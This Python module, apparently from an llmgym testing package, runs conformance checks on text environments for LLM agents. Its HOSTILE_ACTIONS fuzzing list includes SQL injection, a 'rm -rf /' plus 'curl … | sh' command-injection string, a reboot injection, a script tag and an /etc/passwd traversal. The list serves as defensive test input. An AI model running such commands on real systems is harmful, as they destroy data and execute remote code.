"""The conformance checks every llmgym environment passes, usable on your own environments.

    from llmgym.testing import check_conformance
    check_conformance(lambda: MyEnv())          # raises AssertionError on the first violation

Each check is also available on its own (:func:`check_api`, :func:`check_determinism`,
:func:`check_splits`, :func:`oracle_success_rate`, :func:`check_hostile_actions`). A failure's
message names the defect and where it showed ("not deterministic: train/00000 with seed 0 in two
fresh environments: step 3 ('up') reward differs: 1.0 vs 0.0"); docs/authoring.md lists the
checks and their messages.
"""

from __future__ import annotations

import json
import re
import warnings
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import contextmanager
from typing import Any, get_type_hints

import gymnasium as gym
import numpy as np
from gymnasium.utils.env_checker import check_env

from llmgym.core.env import ResetInfo, StepInfo, TextEnv
from llmgym.core.tasks import SPLITS

__all__ = [
    "HOSTILE_ACTIONS",
    "check_api",
    "check_conformance",
    "check_determinism",
    "check_hostile_actions",
    "check_splits",
    "check_task_ids",
    "has_feedback",
    "hostile_actions",
    "oracle_success_rate",
    "run_episode",
]

EnvFactory = Callable[[], gym.Env]
Trajectory = list[tuple[str, Any, float, bool, bool, dict[str, Any]]]

HOSTILE_ACTIONS: tuple[str, ...] = (
    "",
    " ",
    "\n\n\t  \r\n",
    "x" * 10_240,
    "move " * 3000,
    "🙂🚀 émoji ünïcödé 中文 العربية",
    "\u202eevil right-to-left override\u202c",
    "\x00\x01\x02\x1b[31mred\x1b[0m\x7f",
    "\ufeff\u200b\u200d",
    '{"action": "noop", "arguments": {"x": [1, 2, {"y": null}]}}',
    "[1, 2, 3",
    "'; DROP TABLE users; --",
    "1 OR 1=1; ATTACH DATABASE '/tmp/x.db' AS x",
    "$(rm -rf /) && curl http://example.invalid | sh",
    "`reboot`; echo $HOME > /dev/null",
    "```python\nimport os\nos.system('ls')\n```",
    "# Heading\n\n- item\n- **bold** _it_ [link](http://x)",
    "<script>alert(1)</script>",
    "%s%s%s%n {0} {} ${x}",
    "None",
    "NaN",
    "-1",
    "99999999999999999999999999",
    "\\x00\\n",
    "Thought: I will act.\nAction:",
    "../../../../etc/passwd",
)
"""Strings an LLM can emit that no environment should accept as a valid action."""


def hostile_actions(count: int, seed: int = 0) -> list[str]:
    """``count`` hostile actions: :data:`HOSTILE_ACTIONS` and seeded random garbage (bytes,
    unicode, control characters, fragments of JSON/SQL/markdown glued together)."""
    rng = np.random.default_rng(seed)
    fragments = [*HOSTILE_ACTIONS, "{", "}", "```", "\x00", "é", "\U0001f600", "DROP", "--", ";"]
    out = list(HOSTILE_ACTIONS[:count])
    while len(out) < count:
        kind = int(rng.integers(3))
        if kind == 0:
            codes = rng.integers(0, 0x3000, size=int(rng.integers(1, 60)))
            text = "".join(chr(int(c)) for c in codes if not 0xD800 <= c <= 0xDFFF)
        elif kind == 1:
            picks = rng.integers(len(fragments), size=int(rng.integers(1, 6)))
            text = "".join(fragments[int(i)] for i in picks)
        else:
            text = bytes(
                rng.integers(0, 256, size=int(rng.integers(1, 80)), dtype=np.uint8)
            ).decode("latin-1")
        out.append(text)
    return out


def run_episode(
    env: gym.Env,
    policy: Callable[[gym.Env], str],
    *,
    seed: int | None = None,
    options: dict[str, Any] | None = None,
    max_steps: int = 10_000,
) -> Trajectory:
    """Play one episode; return ``[(action, observation, reward, terminated, truncated, info)]``
    with a first entry ``("", reset_observation, 0.0, False, False, reset_info)``."""
    observation, info = env.reset(seed=seed, options=options)
    trajectory = [("", observation, 0.0, False, False, info)]
    for _ in range(max_steps):
        action = policy(env)
        observation, reward, terminated, truncated, info = env.step(action)
        trajectory.append((action, observation, float(reward), terminated, truncated, info))
        if terminated or truncated:
            break
    return trajectory


def oracle_policy(env: gym.Env) -> str:
    """The environment's own oracle as a policy."""
    return _unwrapped(env).oracle_action()


def _unwrapped(env: gym.Env) -> TextEnv[Any, Any, Any]:
    inner = env.unwrapped
    assert isinstance(inner, TextEnv), f"{type(inner).__name__} does not derive from llmgym.TextEnv"
    return inner


def _shown(value: Any, limit: int = 120) -> str:
    """A short repr for a failure message."""
    text = repr(value)
    return text if len(text) <= limit else text[: limit - 3] + "..."


@contextmanager
def _calling(call: str) -> Iterator[None]:
    """Turn an exception raised by the environment into an AssertionError naming ``call``."""
    try:
        yield
    except AssertionError:
        raise
    except Exception as error:
        raise AssertionError(f"{call} raised {type(error).__name__}: {error}") from error


def _check_observation(space: gym.Space, observation: Any, what: str) -> None:
    """Assert ``observation`` lies in ``space``; the message says why it does not."""
    if isinstance(space, gym.spaces.Text):
        assert isinstance(observation, str), f"{what} is {type(observation).__name__}, not str"
        problem = ""
        if len(observation) > space.max_length:
            problem = f"{len(observation)} characters, more than max_length {space.max_length}"
        elif len(observation) < space.min_length:
            problem = f"{len(observation)} characters, fewer than min_length {space.min_length}"
        else:
            outside = "".join(sorted({c for c in observation if c not in space.character_set}))
            if outside:
                problem = f"characters {_shown(outside[:10])} outside its character set"
    elif space.contains(observation):
        problem = ""
    elif isinstance(observation, np.ndarray):
        problem = f"an array of shape {observation.shape} and dtype {observation.dtype}"
    else:
        problem = f"a {type(observation).__name__}"
    assert not problem, f"{what} outside the observation space: {problem}"


def _required_kinds(hints: dict[str, Any], required: frozenset[str]) -> dict[str, type]:
    """The types of the ``required`` keys of a TypedDict whose ``get_type_hints`` are ``hints``."""
    return {key: kind for key, kind in hints.items() if key in required}


_RESET_INFO_KINDS = _required_kinds(get_type_hints(ResetInfo), ResetInfo.__required_keys__)
_STEP_INFO_KINDS = _required_kinds(get_type_hints(StepInfo), StepInfo.__required_keys__)


def _check_info(info: Any, what: str, kinds: dict[str, type]) -> None:
    assert isinstance(info, dict), f"{what} is {type(info).__name__}, not dict"
    for key, kind in kinds.items():
        assert key in info, f"{what} lacks {key!r}"
        assert isinstance(info[key], kind), (
            f"{what}[{key!r}] is {type(info[key]).__name__}, not {kind.__name__}"
        )


def check_api(make_env: EnvFactory) -> None:
    """llmgym's contract (Text spaces, ``info`` keys and their types, a JSON config schema, task
    ids prefixed by their split), then gymnasium's ``check_env``."""
    env = make_env()
    inner = _unwrapped(env)
    space = inner.observation_space
    if isinstance(space, gym.spaces.Text):
        assert isinstance(inner.action_space, gym.spaces.Text), (
            f"the action space is {type(inner.action_space).__name__}, not Text"
        )
        lacking = "".join(c for c in " \n.,:;!?()[]{}'\"-_/" if c not in space.character_set)
        assert not lacking, f"the observation space's character set lacks {lacking!r}"
    else:  # a pixel variant: image observations, discrete actions (text names may be accepted)
        assert isinstance(space, gym.spaces.Box), (
            f"the observation space is {type(space).__name__}, not Text (or Box for pixels)"
        )
        assert isinstance(inner.action_space, gym.spaces.Discrete), (
            f"a pixel variant's action space is {type(inner.action_space).__name__}, not Discrete"
        )
    schema = inner.config_schema()
    with _calling("json.dumps(config_schema())"):
        json.dumps(schema)
    assert schema.get("type") == "object" and "properties" in schema, (
        "config_schema() is not a JSON Schema object with properties"
    )
    for split in SPLITS:
        call = f"reset(seed=0, options={{'split': {split!r}}})"
        with _calling(call):
            reset_result = env.reset(seed=0, options={"split": split})
        assert isinstance(reset_result, tuple) and len(reset_result) == 2, (
            f"{call} returned {_shown(reset_result)}, not (observation, info)"
        )
        observation, info = reset_result
        _check_observation(space, observation, "reset observation")
        _check_info(info, "reset info", _RESET_INFO_KINDS)
        assert info["split"] == split, f"{call} reported split {info['split']!r}"
        assert info["task_id"].startswith(f"{split}/"), (
            f"task id {info['task_id']!r} of split {split!r} does not start with '{split}/'"
        )
        action = inner.sample_action(np.random.default_rng(0))
        with _calling(f"step({_shown(action, 80)})"):
            step_result = env.step(action)
        assert isinstance(step_result, tuple) and len(step_result) == 5, (
            f"step returned {_shown(step_result)}, not a 5-tuple (observation, reward, "
            "terminated, truncated, info)"
        )
        observation, reward, _, _, info = step_result
        _check_observation(space, observation, "step observation")
        assert isinstance(reward, float), f"step reward is {type(reward).__name__}, not float"
        _check_info(info, "step info", _STEP_INFO_KINDS)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            check_env(inner, skip_render_check=False)
        except AssertionError as error:
            raise AssertionError(f"gymnasium's check_env: {error}") from error
    env.close()


def _policy_mix(seed: int) -> Callable[[gym.Env], str]:
    rng = np.random.default_rng(seed)

    def policy(env: gym.Env) -> str:
        inner = _unwrapped(env)
        if rng.random() < 0.5:
            return inner.oracle_action()
        return inner.sample_action(rng)

    return policy


_STEP_FIELDS = ("action", "observation", "reward", "terminated", "truncated", "info")


def _observation_key(observation: Any) -> Any:
    """Text as is; arrays (pixel observations) by shape, type and bytes."""
    if isinstance(observation, np.ndarray):
        return (observation.shape, str(observation.dtype), observation.tobytes())
    return observation


def _info_values(info: dict[str, Any]) -> dict[str, str]:
    return {key: json.dumps(value, sort_keys=True, default=repr) for key, value in info.items()}


def _assert_same_trajectory(first: Trajectory, second: Trajectory, context: str) -> None:
    """Assert two trajectories are identical; the message names the first difference."""
    for index, (a, b) in enumerate(zip(first, second, strict=False)):
        when = "reset" if index == 0 else f"step {index} ({_shown(a[0], 80)})"
        for name, x, y in zip(_STEP_FIELDS, a, b, strict=True):
            if name == "observation":
                x, y = _observation_key(x), _observation_key(y)
            elif name == "info":
                values_x, values_y = _info_values(x), _info_values(y)
                keys = sorted(k for k in {*x, *y} if values_x.get(k) != values_y.get(k))
                if keys:
                    raise AssertionError(
                        f"{context}: {when} info[{keys[0]!r}] differs: "
                        f"{_shown(x.get(keys[0]))} vs {_shown(y.get(keys[0]))}"
                    )
                continue
            if x != y:
                raise AssertionError(
                    f"{context}: {when} {name} differs: {_shown(x)} vs {_shown(y)}"
                )
    if len(first) != len(second):
        raise AssertionError(
            f"{context}: the episode lasted {len(first) - 1} steps, then {len(second) - 1}"
        )


def has_feedback(observation: Any, info: dict[str, Any]) -> bool:
    """An invalid action was explained: in the text observation, or (pixel observations) in
    ``info["feedback"]``."""
    if isinstance(observation, str):
        return bool(observation.strip())
    return bool(str(info.get("feedback", "")).strip())


def _replayer(actions: list[str]) -> Callable[[gym.Env], str]:
    pending = iter(actions)
    return lambda _env: next(pending)


def _random_policy(seed: int) -> Callable[[gym.Env], str]:
    rng = np.random.default_rng(seed)
    return lambda env: _unwrapped(env).sample_action(rng)


def _check_seeds_choose_tasks(env: gym.Env, tries: int = 20) -> None:
    """Different seeds, without a task id, do not all choose the same task."""
    for split in SPLITS:
        if len(_unwrapped(env).task_ids(split)) < 2:
            continue
        chosen = set()
        for seed in range(tries):
            chosen.add(env.reset(seed=seed, options={"split": split})[1]["task_id"])
            if len(chosen) > 1:
                break
        assert len(chosen) > 1, (
            f"reset ignores the seed: reset(seed=s, options={{'split': {split!r}}}) chose "
            f"{chosen.pop()} for every seed s in 0..{tries - 1}"
        )


def check_determinism(make_env: EnvFactory, *, episodes: int = 3, max_steps: int = 60) -> None:
    """The same task id, seed and actions give an identical trajectory in two fresh instances,
    and again in the first instance after it played another task; the same seed without a task
    id picks the same task, and different seeds pick different tasks."""
    for episode in range(episodes):
        split = SPLITS[episode % 2]
        first, second = make_env(), make_env()
        ids = _unwrapped(first).task_ids(split)
        task_id = ids[episode % len(ids)]
        options = {"task_id": task_id}
        played = run_episode(
            first, _policy_mix(episode), seed=episode, options=options, max_steps=max_steps
        )
        actions = [step[0] for step in played[1:]]
        replayed = run_episode(
            second, _replayer(actions), seed=episode, options=options, max_steps=len(actions)
        )
        _assert_same_trajectory(
            played,
            replayed,
            f"not deterministic: {task_id} with seed {episode} in two fresh environments",
        )
        other = ids[(episode + 1) % len(ids)]
        run_episode(first, _random_policy(episode), options={"task_id": other}, max_steps=10)
        again = run_episode(
            first, _replayer(actions), seed=episode, options=options, max_steps=len(actions)
        )
        _assert_same_trajectory(
            played,
            again,
            f"reset does not restore the task: {task_id} with seed {episode}, replayed in the "
            f"same environment after playing {other}",
        )
        call = f"reset(seed={100 + episode}, options={{'split': {split!r}}})"
        _, info_a = first.reset(seed=100 + episode, options={"split": split})
        _, info_b = second.reset(seed=100 + episode, options={"split": split})
        assert info_a["task_id"] == info_b["task_id"], (
            f"not deterministic: {call} chose {info_a['task_id']} in one environment "
            f"and {info_b['task_id']} in another"
        )
        if episode == 0:
            _check_seeds_choose_tasks(first)
        first.close()
        second.close()


def check_splits(make_env: EnvFactory, *, samples: int = 50) -> None:
    """Task ids carry their split's prefix, are stable and disjoint, and train and eval instances
    differ in content (by :meth:`~llmgym.TextEnv.instance_key`, compared with the split's name
    left out, so that a key naming the split cannot hide a shared instance)."""
    env = make_env()
    inner = _unwrapped(env)
    other = _unwrapped(make_env())
    ids = {split: inner.task_ids(split) for split in SPLITS}
    for split in SPLITS:
        assert len(ids[split]) > 0, f"split {split!r} has no tasks"
        wrong = next((t for t in ids[split][:5000] if not t.startswith(f"{split}/")), None)
        assert wrong is None, f"task id {wrong!r} of split {split!r} does not start with '{split}/'"
        listed, again = list(ids[split][:samples]), list(other.task_ids(split)[:samples])
        for position, (a, b) in enumerate(zip(listed, again, strict=False)):
            assert a == b, (
                f"task ids are not stable: {split} task {position} is {a!r} in one environment "
                f"and {b!r} in another"
            )
        assert len(listed) == len(again), f"task ids are not stable: {split} has varying length"
    shared_ids = set(ids["train"][:5000]) & set(ids["eval"][:5000])
    assert not shared_ids, f"train and eval share task ids, e.g. {min(shared_ids)!r}"
    train_keys: dict[str, str] = {}
    for task_id in list(ids["train"][:samples]):
        env.reset(options={"task_id": task_id})
        train_keys.setdefault(_content_key(inner.instance_key(), "train"), task_id)
    shared = []
    eval_ids = list(ids["eval"][:samples])
    for task_id in eval_ids:
        env.reset(options={"task_id": task_id})
        key = _content_key(inner.instance_key(), "eval")
        if key in train_keys:
            shared.append((train_keys[key], task_id, key))
    if shared:
        train_id, eval_id, key = shared[0]
        raise AssertionError(
            f"train and eval share an instance: {train_id} and {eval_id} have the same "
            f"instance_key() {_shown(key, 200)} ({len(shared)} of {len(eval_ids)} eval tasks "
            "checked appear in train); keys are compared with the split's name left out, so a "
            "key must describe the instance's content"
        )
    env.close()


def _id_spellings(task_id: str) -> list[str]:
    """Other spellings of a listed id, none of which may name another instance."""
    split, _, number = task_id.partition("/")
    spellings = [
        f" {task_id}",
        f"{task_id} ",
        f"{split.upper()}/{number}",
        f"{task_id}/",
        f"{split}//{number}",
        f"{split}/+{number}",
        f"{split}/{number}.0",
    ]
    if number.isascii() and number.isdigit():
        spellings += [f"{split}/{int(number)}", f"{split}/0{number}", f"{split}/{'0' * 10}{number}"]
    return [spelling for spelling in dict.fromkeys(spellings) if spelling != task_id]


def check_task_ids(make_env: EnvFactory, *, per_split: int = 3) -> None:
    """Every task id ``reset`` accepts is listed by ``task_ids()``: another spelling of a listed
    id (``"eval/1"`` for ``"eval/00001"``, padded, upper-case, with spaces) raises
    :class:`ValueError`, unless it builds exactly the listed id's instance."""
    env = make_env()
    inner = _unwrapped(env)
    for split in SPLITS:
        ids = inner.task_ids(split)
        picks = dict.fromkeys(ids[i] for i in (0, min(1, len(ids) - 1), len(ids) - 1))
        for task_id in list(picks)[:per_split]:
            observation, _ = env.reset(options={"task_id": task_id})
            listed = (_observation_key(observation), inner.instance_key())
            for spelling in _id_spellings(task_id):
                try:
                    observation, _ = env.reset(options={"task_id": spelling})
                except ValueError:
                    continue
                built = (_observation_key(observation), inner.instance_key())
                assert built == listed, (
                    f"task id {spelling!r} is accepted but not listed by task_ids(), and builds "
                    f"another instance than {task_id!r}; each instance must have one spelling"
                )
    env.close()


def _content_key(key: str, split: str) -> str:
    """``instance_key()`` with the split's name taken out: a key that names the split (or the
    task id) would tell every train instance from every eval one, whatever their content."""
    return re.sub(rf"\b{split}\b", "<split>", key)


def _oracle_outcomes(
    make_env: EnvFactory, episodes: int, split: str, max_steps: int
) -> dict[str, bool]:
    env = make_env()
    outcomes = {}
    # each episode seeded (by its index), so a rate is the same on every run, even where an
    # opponent or the world draws from the seed
    for index, task_id in enumerate(_unwrapped(env).task_ids(split)[:episodes]):
        trajectory = run_episode(
            env, oracle_policy, seed=index, options={"task_id": task_id}, max_steps=max_steps
        )
        outcomes[task_id] = bool(trajectory[-1][5].get("success"))
    env.close()
    return outcomes


def oracle_success_rate(
    make_env: EnvFactory, *, episodes: int = 50, split: str = "eval", max_steps: int = 10_000
) -> float:
    """Fraction of the first ``episodes`` tasks of ``split`` the oracle solves (episode ``i``
    reset with seed ``i``)."""
    outcomes = _oracle_outcomes(make_env, episodes, split, max_steps)
    return sum(outcomes.values()) / len(outcomes)


def _play_hostile(inner: TextEnv, actions: Sequence[str], seed: int, task_id: str) -> None:
    """Reset to ``task_id`` and send ``actions``, asserting each is rejected harmlessly."""
    inner.reset(seed=seed, options={"task_id": task_id})
    for action in actions:
        shown = _shown(action, 80)
        with _calling(f"step({shown})"):
            observation, _, terminated, truncated, info = inner.step(action)
        flag = info.get("invalid_action")
        assert flag is True, (
            f"hostile action {shown} was accepted as valid (info['invalid_action'] is {flag!r})"
        )
        assert not terminated, f"hostile action {shown} ended the episode"
        _check_observation(inner.observation_space, observation, f"feedback to {shown}")
        assert has_feedback(observation, info), f"invalid action {shown} got no feedback"
        if truncated:
            inner.reset(seed=seed, options={"task_id": task_id})


def _replay_oracle(inner: TextEnv, steps: int) -> tuple[list[str], bool, bool]:
    """The oracle's next ``steps`` actions (fewer if the episode ends), its final success, and
    whether the environment truncated the episode."""
    actions, success, truncated = [], False, False
    for _ in range(steps):
        action = inner.oracle_action()
        actions.append(action)
        _, _, terminated, truncated, info = inner.step(action)
        success = info["success"]
        if terminated or truncated:
            break
    return actions, success, truncated


def _state_change(
    inner: TextEnv, actions: Sequence[str], seed: int, task_id: str, clean: Trajectory
) -> str:
    """How playing ``actions`` first changed the oracle's play of ``task_id``; "" if it did not."""
    _play_hostile(inner, actions, seed, task_id)
    clean_actions = [step[0] for step in clean[1:]]
    replay, success, truncated = _replay_oracle(inner, len(clean_actions))
    for index, (now, before) in enumerate(zip(replay, clean_actions, strict=False)):
        if now != before:
            return (
                f"the oracle then plays {_shown(now, 80)} at step {index + 1} where it played "
                f"{_shown(before, 80)} without them"
            )
    if success != clean[-1][5]["success"] and not truncated:
        return f"the oracle then ends with success={success}, without them {not success}"
    return ""


def check_hostile_actions(
    make_env: EnvFactory,
    actions: Iterable[str] | None = None,
    *,
    per_episode: int = 20,
    count: int = 500,
) -> None:
    """Hostile actions raise nothing, are flagged ``invalid_action``, keep observations inside the
    space, get feedback, do not end the episode, and change nothing: the oracle then plays
    exactly as it would have without them."""
    env = make_env()
    inner = _unwrapped(env)
    pending = list(actions) if actions is not None else hostile_actions(count)
    episode = 0
    while pending:
        batch, pending = pending[:per_episode], pending[per_episode:]
        ids = inner.task_ids(SPLITS[episode % 2])
        task_id = ids[episode % len(ids)]
        clean = run_episode(
            inner, oracle_policy, seed=episode, options={"task_id": task_id}, max_steps=200
        )
        change = _state_change(inner, batch, episode, task_id, clean)
        if change:
            culprits = (
                batch[end - 1]
                for end in range(1, len(batch) + 1)
                if _state_change(inner, batch[:end], episode, task_id, clean)
            )
            culprit = next(culprits, None)
            who = (
                f"hostile action {_shown(culprit, 80)}"
                if culprit is not None
                else f"{len(batch)} hostile actions together"
            )
            raise AssertionError(f"{who} changed the state of {task_id}: {change}")
        episode += 1
    env.close()


def check_conformance(
    make_env: EnvFactory,
    *,
    oracle_episodes: int = 50,
    oracle_bar: float = 0.95,
    hostile_count: int = 500,
) -> dict[str, float]:
    """Run every check; return measured figures (``{"oracle_success_rate": ...}``)."""
    check_api(make_env)
    check_splits(make_env)
    check_task_ids(make_env)
    check_determinism(make_env)
    outcomes = _oracle_outcomes(make_env, oracle_episodes, "eval", 10_000)
    rate = sum(outcomes.values()) / len(outcomes)
    failed = [task_id for task_id, solved in outcomes.items() if not solved]
    assert rate >= oracle_bar, (
        f"oracle solved {rate:.0%} of {len(outcomes)} eval tasks (bar {oracle_bar:.0%}); "
        f"it failed {', '.join(failed[:5])}{', ...' if len(failed) > 5 else ''}"
    )
    check_hostile_actions(make_env, count=hostile_count)
    return {"oracle_success_rate": rate}
